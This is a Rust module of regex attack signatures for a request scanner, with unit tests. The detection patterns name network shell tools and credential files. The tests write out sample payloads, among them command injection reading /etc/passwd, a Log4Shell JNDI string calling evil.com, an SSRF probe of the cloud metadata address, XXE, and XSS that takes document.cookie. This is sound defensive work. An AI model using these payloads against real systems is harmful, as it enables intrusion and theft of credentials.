//! Attack Signature Patterns
//!
//! Fixed regex set behind the canonicalizer's `FLAG:` tokens. One pattern per
//! flag, compiled once, tested against the percent-decoded combined request
//! text (SCANNER_PATH runs against the raw path instead). Flags are
//! independent: any subset may fire on one request, always in this order.

use once_cell::sync::Lazy;
use regex::Regex;

/// A named attack signature
pub struct SignaturePattern {
    /// Flag name emitted as `FLAG:<name>`
    pub name: &'static str,
    pub pattern: &'static Lazy<Regex>,
}

static SQL_KEYWORDS: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r"(?i)(\bunion\b.{0,40}\bselect\b|\bselect\b.{0,60}\bfrom\b|\binsert\s+into\b|\bdrop\s+table\b|\bdelete\s+from\b|\bupdate\s+\w+\s+set\b|'\s*(or|and)\b|'\s*--|--\s|#\s*$|\b(or|and)\s+\d+\s*=\s*\d+|\bsleep\s*\(|\bbenchmark\s*\(|\bwaitfor\s+delay\b|\bpg_sleep\s*\(|\binformation_schema\b|@@version)",
    )
    .expect("valid SQL_KEYWORDS pattern")
});

static XSS_PATTERN: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r"(?i)(<script\b|</script|javascript:|vbscript:|\bon(error|load|click|mouseover|focus|blur|submit|keypress)\s*=|<svg\b|<iframe\b|<img\b[^>]{0,100}\bon\w+\s*=|\balert\s*\(|\bprompt\s*\(|document\.cookie|\beval\s*\()",
    )
    .expect("valid XSS_PATTERN pattern")
});

static PATH_TRAVERSAL: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"\.\./|\.\.\\|%2e%2e%2f|%2e%2e/").expect("valid PATH_TRAVERSAL pattern"));

static COMMAND_INJECTION: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r"(?i)([;|&]\s*(cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|python|perl)\b|\$\([^)]*\)|`[^`]+`|/bin/(ba)?sh\b|/etc/(passwd|shadow)\b|\bcmd\.exe\b|\bpowershell\b|/dev/tcp/|\bmkfifo\b)",
    )
    .expect("valid COMMAND_INJECTION pattern")
});

static SSRF_TARGET: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r"(?i)(169\.254\.169\.254|metadata\.google\.internal|\blocalhost\b|127\.0\.0\.1|0\.0\.0\.0|\[::1\]|@127\.|\b10\.0\.0\.|\b192\.168\.|file://)",
    )
    .expect("valid SSRF_TARGET pattern")
});

static XXE_PATTERN: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r#"(?i)(<!DOCTYPE[^>]{0,200}\[|<!ENTITY\b|\bSYSTEM\s+["']|<\?xml\b[^>]{0,100}encoding)"#)
        .expect("valid XXE_PATTERN pattern")
});

static NOSQL_INJECTION: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r#"(?i)(\$(ne|gt|lt|gte|lte|where|regex|exists|nin|in|or|and)\b|\{\s*"\$|\[\$(ne|gt|lt)\])"#)
        .expect("valid NOSQL_INJECTION pattern")
});

static TEMPLATE_INJECTION: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"(\{\{[^}]{0,200}\}\}|\{%[^%]{0,200}%\}|<%[^%]{0,200}%>|\#\{[^}]{0,100}\})")
        .expect("valid TEMPLATE_INJECTION pattern")
});

static LOG4SHELL_JNDI: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"(?i)\$\{\s*jndi\s*:\s*(ldaps?|rmi|dns|iiop|corba|nds|http)")
        .expect("valid LOG4SHELL_JNDI pattern")
});

static OPEN_REDIRECT: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"(?i)\b(redirect|redirect_uri|url|next|return_to|returnurl|goto|dest|destination|continue)=https?://")
        .expect("valid OPEN_REDIRECT pattern")
});

static LDAP_INJECTION: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"(\(\s*[&|!]\s*\(|\*\s*\)\s*\(|\)\s*\(\s*\||\(\w+=\*\))")
        .expect("valid LDAP_INJECTION pattern")
});

static SCANNER_PATH: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r"(?i)(/\.env\b|/\.git(/|$)|/\.aws/|/\.ssh/|/wp-admin\b|/wp-login\b|/phpmyadmin\b|/etc/passwd\b|/server-status\b|/\.htaccess\b|/web\.config\b|/config\.php\b|/actuator(/|$)|/\.well-known/security)",
    )
    .expect("valid SCANNER_PATH pattern")
});

/// Signatures tested against the decoded combined request text, in emission
/// order
pub static COMBINED_SIGNATURES: &[SignaturePattern] = &[
    SignaturePattern {
        name: "SQL_KEYWORDS",
        pattern: &SQL_KEYWORDS,
    },
    SignaturePattern {
        name: "XSS_PATTERN",
        pattern: &XSS_PATTERN,
    },
    SignaturePattern {
        name: "PATH_TRAVERSAL",
        pattern: &PATH_TRAVERSAL,
    },
    SignaturePattern {
        name: "COMMAND_INJECTION",
        pattern: &COMMAND_INJECTION,
    },
    SignaturePattern {
        name: "SSRF_TARGET",
        pattern: &SSRF_TARGET,
    },
    SignaturePattern {
        name: "XXE_PATTERN",
        pattern: &XXE_PATTERN,
    },
    SignaturePattern {
        name: "NOSQL_INJECTION",
        pattern: &NOSQL_INJECTION,
    },
    SignaturePattern {
        name: "TEMPLATE_INJECTION",
        pattern: &TEMPLATE_INJECTION,
    },
    SignaturePattern {
        name: "LOG4SHELL_JNDI",
        pattern: &LOG4SHELL_JNDI,
    },
    SignaturePattern {
        name: "OPEN_REDIRECT",
        pattern: &OPEN_REDIRECT,
    },
    SignaturePattern {
        name: "LDAP_INJECTION",
        pattern: &LDAP_INJECTION,
    },
];

/// Signature tested against the raw (non-decoded) path
pub fn scanner_path() -> &'static Regex {
    &SCANNER_PATH
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flags_for(input: &str) -> Vec<&'static str> {
        COMBINED_SIGNATURES
            .iter()
            .filter(|s| s.pattern.is_match(input))
            .map(|s| s.name)
            .collect()
    }

    #[test]
    fn test_sqli_signatures() {
        assert!(flags_for("username=admin'--&password=x").contains(&"SQL_KEYWORDS"));
        assert!(flags_for("1 UNION SELECT password FROM users").contains(&"SQL_KEYWORDS"));
        assert!(flags_for("' OR 1=1 -- ").contains(&"SQL_KEYWORDS"));
    }

    #[test]
    fn test_xss_signatures() {
        assert!(flags_for("<script>alert(1)</script>").contains(&"XSS_PATTERN"));
        assert!(flags_for("<img src=x onerror=alert(1)>").contains(&"XSS_PATTERN"));
        assert!(flags_for("javascript:alert(document.cookie)").contains(&"XSS_PATTERN"));
    }

    #[test]
    fn test_traversal_and_command() {
        assert!(flags_for("../../../etc/passwd").contains(&"PATH_TRAVERSAL"));
        assert!(flags_for("; cat /etc/passwd").contains(&"COMMAND_INJECTION"));
        assert!(flags_for("x=$(whoami)").contains(&"COMMAND_INJECTION"));
    }

    #[test]
    fn test_ssrf_xxe_nosql() {
        assert!(flags_for("url=http://169.254.169.254/latest/meta-data").contains(&"SSRF_TARGET"));
        assert!(flags_for("<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>")
            .contains(&"XXE_PATTERN"));
        assert!(flags_for(r#"{"username": {"$ne": null}}"#).contains(&"NOSQL_INJECTION"));
    }

    #[test]
    fn test_template_log4shell_redirect_ldap() {
        assert!(flags_for("{{7*7}}").contains(&"TEMPLATE_INJECTION"));
        assert!(flags_for("${jndi:ldap://evil.com/a}").contains(&"LOG4SHELL_JNDI"));
        assert!(flags_for("next=https://evil.example.com/phish").contains(&"OPEN_REDIRECT"));
        assert!(flags_for("(&(uid=*)(password=*))").contains(&"LDAP_INJECTION"));
    }

    #[test]
    fn test_scanner_path() {
        assert!(scanner_path().is_match("/.env"));
        assert!(scanner_path().is_match("/wp-admin/setup.php"));
        assert!(scanner_path().is_match("/.git/config"));
        assert!(!scanner_path().is_match("/api/users"));
    }

    #[test]
    fn test_benign_text_fires_nothing() {
        assert!(flags_for("hello world, normal search query").is_empty());
        assert!(flags_for("username=john&page=2").is_empty());
    }
}
